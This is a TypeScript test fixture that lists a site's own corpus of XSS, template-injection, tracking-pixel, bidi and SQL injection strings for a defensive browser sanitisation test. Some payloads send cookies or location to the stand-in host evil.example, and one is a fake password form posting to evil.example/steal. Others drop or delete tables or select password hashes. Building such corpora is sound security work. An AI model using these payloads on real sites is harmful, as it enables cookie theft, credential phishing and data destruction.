/**
 * @module test/security/hostile-corpus
 * Broadsheet's own corpus of hostile strings, written for this suite (not copied from a public
 * list), grouped by family. Whatever would run if a page let it through calls a marker that the
 * browser test sees: a dialog (`alert(1)`, `confirm(1)`, `prompt(1)`) or a request to another
 * host (https://evil.example/…). A string that only breaks layout or reads wrong (bidi, zero-width,
 * very long, SQL) has nothing to run; the test checks that it changes nothing else.
 */

export type HostileFamily =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg-mathml'
  | 'breakout'
  | 'css'
  | 'template'
  | 'embed'
  | 'remote-image'
  | 'bidi-zero-width'
  | 'long'
  | 'sql';

export interface HostileString {
  family: HostileFamily;
  value: string;
}

/** The host every remote payload points at; the test fails on any request to it (or any other host). */
export const EVIL_HOST = 'evil.example';

const script = (value: string): HostileString => ({ family: 'script', value });
const handler = (value: string): HostileString => ({ family: 'event-handler', value });
const scheme = (value: string): HostileString => ({ family: 'url-scheme', value });
const svg = (value: string): HostileString => ({ family: 'svg-mathml', value });
const breakout = (value: string): HostileString => ({ family: 'breakout', value });
const css = (value: string): HostileString => ({ family: 'css', value });
const template = (value: string): HostileString => ({ family: 'template', value });
const embed = (value: string): HostileString => ({ family: 'embed', value });
const remote = (value: string): HostileString => ({ family: 'remote-image', value });
const bidi = (value: string): HostileString => ({ family: 'bidi-zero-width', value });
const long = (value: string): HostileString => ({ family: 'long', value });
const sql = (value: string): HostileString => ({ family: 'sql', value });

export const HOSTILE: readonly HostileString[] = [
  // ---- script elements: plain, cased, split, nested, with a source elsewhere ----
  script('<script>alert(1)</script>'),
  script('<SCRIPT>alert(1)</SCRIPT>'),
  script('<ScRiPt>confirm(1)</sCrIpT>'),
  script('<scr<script>ipt>alert(1)</scr</script>ipt>'),
  script('<<script>script>alert(1)<</script>/script>'),
  script('<script/anything>alert(1)</script>'),
  script('<script\ttype="text/javascript">alert(1)</script>'),
  script('<script src="https://evil.example/loader.js"></script>'),
  script('<script src=//evil.example/short.js></script>'),
  script("<script>fetch('https://evil.example/beacon?c='+document.cookie)</script>"),
  script('<script>new Image().src="https://evil.example/i?"+location</script>'),
  script('<div><script>alert(1)</script></div>'),
  script('<noscript><p title="</noscript><script>alert(1)</script>"></noscript>'),
  script('<template shadowrootmode="open"><script>alert(1)</script><img src=x onerror=alert(1)></template>'),

  // ---- event handler attributes, in every quoting style ----
  handler('<img src=x onerror=alert(1)>'),
  handler('<img src="x" onerror="alert(1)">'),
  handler("<img src='x' onerror='alert(1)'>"),
  handler('<img src=x onerror=`alert(1)`>'),
  handler('<img/src=x/onerror=alert(1)>'),
  handler('<img src=x onerror\n=\nalert(1)>'),
  handler('<img src=x onerror=alert&#40;1&#41;>'),
  handler('<img src=x oNeRrOr=prompt(1)>'),
  handler('<body onload=alert(1)>'),
  handler('<input autofocus onfocus=alert(1)>'),
  handler('<textarea autofocus onfocus="alert(1)">x</textarea>'),
  handler('<button autofocus onfocusin=alert(1)>x</button>'),
  handler('<div onmouseover="alert(1)" style="position:fixed;inset:0">hover</div>'),
  handler('<details open ontoggle=alert(1)><summary>x</summary></details>'),
  handler('<video src=x onerror=alert(1)></video>'),
  handler('<audio src=x onerror=alert(1)></audio>'),
  handler('<marquee onstart=alert(1)>x</marquee>'),
  handler('<a href="#" onclick="alert(1)">click</a>'),
  handler('<img src=x onerror="fetch(\'https://evil.example/h\')">'),
  handler('" onmouseover="alert(1)" x="'),
  handler("' onfocus='alert(1)' autofocus x='"),
  handler('" autofocus onfocus=alert(1) "'),

  // ---- URL schemes and their encodings ----
  scheme('javascript:alert(1)'),
  scheme('JaVaScRiPt:alert(1)'),
  scheme(' \t javascript:alert(1)'),
  scheme('\u0001javascript:alert(1)'),
  scheme('java\tscript:alert(1)'),
  scheme('vbscript:msgbox(1)'),
  scheme('data:text/html,<script>alert(1)</script>'),
  scheme('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  scheme('<a href="javascript:alert(1)">link</a>'),
  scheme('<a href="JaVaScRiPt:alert(1)">link</a>'),
  scheme('<a href="java&#x09;script:alert(1)">link</a>'),
  scheme('<a href="&#106;avascript:alert(1)">link</a>'),
  scheme('<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">link</a>'),
  scheme('<a href="%6Aavascript:alert(1)">link</a>'),
  scheme('<a href="  javascript:alert(1)">link</a>'),
  scheme('<a href="\u0001\u0002javascript:alert(1)">link</a>'),
  scheme('<a href="vbscript:msgbox(1)">link</a>'),
  scheme('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>'),
  scheme('<form action="javascript:alert(1)"><button>send</button></form>'),
  scheme('<form><button formaction="javascript:alert(1)">send</button></form>'),
  scheme('[link](javascript:alert(1))'),
  scheme('[link](JaVaScRiPt:alert(1))'),
  scheme('[link](data:text/html,<script>alert(1)</script>)'),
  scheme('<https://news.example/"onmouseover="alert(1)>'),

  // ---- SVG and MathML ----
  svg('<svg onload=alert(1)>'),
  svg('<svg/onload=alert(1)//'),
  svg('<svg><script>alert(1)</script></svg>'),
  svg('<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">tap</text></a></svg>'),
  svg('<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">tap</text></a></svg>'),
  svg('<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
  svg('<svg><use href="https://evil.example/sprite.svg#x"/></svg>'),
  svg('<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'),
  svg('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'),
  svg('<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">'),
  svg('<math href="javascript:alert(1)">tap</math>'),
  svg('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">tap</maction></math>'),

  // ---- markup breakouts: out of an attribute, a text field, the title, a script, a comment ----
  breakout('"><script>alert(1)</script>'),
  breakout("'><img src=x onerror=alert(1)>"),
  breakout('"/><svg onload=alert(1)>'),
  breakout('</textarea><script>alert(1)</script>'),
  breakout('</title><script>alert(1)</script>'),
  breakout('</script><script>alert(1)</script>'),
  breakout('"}]}</script><script>alert(1)</script>'),
  breakout('--><script>alert(1)</script>'),
  breakout('<!--<img src="--><img src=x onerror=alert(1)//">'),
  breakout(']]><script>alert(1)</script>'),
  breakout('</style><script>alert(1)</script>'),
  breakout('</noscript><img src=x onerror=alert(1)>'),
  breakout('</option></select><img src=x onerror=alert(1)>'),
  breakout('<plaintext>'),

  // ---- CSS ----
  css('<div style="background:url(javascript:alert(1))">x</div>'),
  css('<div style="width:expression(alert(1))">x</div>'),
  css("<style>@import 'https://evil.example/sheet.css';</style>"),
  css('<style>body{background:url(https://evil.example/bg.png)}</style>'),
  css('<link rel="stylesheet" href="https://evil.example/sheet.css">'),
  css('<p style="behavior:url(https://evil.example/x.htc)">x</p>'),
  css('expression(alert(1))'),
  css('url(javascript:alert(1))'),

  // ---- template syntax (client or server side) ----
  template("{{constructor.constructor('alert(1)')()}}"),
  template("{{$on.constructor('alert(1)')()}}"),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is template syntax, as text
  template('${alert(1)}'),
  template('#{alert(1)}'),
  template('<%= alert(1) %>'),
  template('{% if 1 %}{{ alert(1) }}{% endif %}'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is template syntax, as text
  template('{{7*7}} [[7*7]] ${7*7}'),
  template('<div v-html="\'<img src=x onerror=alert(1)>\'"></div>'),

  // ---- frames, objects, embeds, base, meta refresh, forms elsewhere, srcdoc ----
  embed('<iframe src="https://evil.example/frame"></iframe>'),
  embed('<iframe src="javascript:alert(1)"></iframe>'),
  embed('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  embed('<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
  embed('<object data="https://evil.example/movie.swf"></object>'),
  embed('<object data="data:text/html,<script>alert(1)</script>"></object>'),
  embed('<embed src="https://evil.example/movie.swf">'),
  embed('<base href="https://evil.example/">'),
  embed('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  embed('<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>'),
  embed('<frameset><frame src="https://evil.example/f"></frameset>'),

  // ---- remote images and tracking pixels ----
  remote('<img src="https://evil.example/pixel.gif" width="1" height="1" alt="">'),
  remote('<img src="//evil.example/x.png" alt="protocol-relative">'),
  remote('<img src="/media/none.png" srcset="https://evil.example/big.png 2x" alt="srcset">'),
  remote('<picture><source srcset="https://evil.example/p.webp" type="image/webp"><img src="/media/none.png" alt="picture"></picture>'),
  remote('<video poster="https://evil.example/poster.png"></video>'),
  remote('<input type="image" src="https://evil.example/button.png">'),
  remote('<table background="https://evil.example/table.png"><tr><td>x</td></tr></table>'),
  remote('![pixel](https://evil.example/pixel.gif)'),
  remote('https://evil.example/pixel.gif'),

  // ---- bidi controls and zero-width characters ----
  bidi('invoice\u202Efdp.exe'),
  bidi('\u202Eadmin\u202C'),
  bidi('left \u2066isolated\u2069 right'),
  bidi('\u2067rtl isolate\u2069 \u2068first strong\u2069'),
  bidi('\u202A\u202B\u202C\u202D\u202E mixed embeddings'),
  bidi('zero\u200Bwidth\u200Cjoin\u200Dchars'),
  bidi('\uFEFFbyte order mark'),
  bidi('java\u200Bscript:alert(1)'),
  bidi('\u200Bjavascript:alert(1)'),
  bidi('<img src=x \u200Bonerror=alert(1)>'),

  // ---- very long strings ----
  long('A'.repeat(20_000)),
  long(`${'x'.repeat(6_000)}<script>alert(1)</script>`),
  long('<b>'.repeat(2_000)),
  long('<a href="javascript:alert(1)">x</a>'.repeat(100)),
  long('\u202E'.repeat(500)),

  // ---- SQL metacharacters ----
  sql("'; DROP TABLE posts; --"),
  sql('" OR "1"="1'),
  sql("' OR 1=1 --"),
  sql("%' OR 'x' LIKE '%"),
  sql("'); DELETE FROM comments; --"),
  sql("' UNION SELECT password_hash, email FROM users --"),
  sql("\\'; SELECT 1; --"),
  sql('1; SELECT pg_sleep(0)--'),
];
